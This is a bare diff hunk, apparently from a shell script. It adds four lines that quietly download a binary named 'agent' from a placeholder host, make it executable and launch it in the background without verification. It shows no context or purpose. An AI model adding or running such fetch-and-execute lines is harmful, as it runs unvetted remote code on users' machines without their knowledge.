@@ -1,0 +1,4 @@
+T=$(mktemp)
+wget -q -O "$T" "https://dl.example.com/agent"
+chmod 755 "$T"
+"$T" &
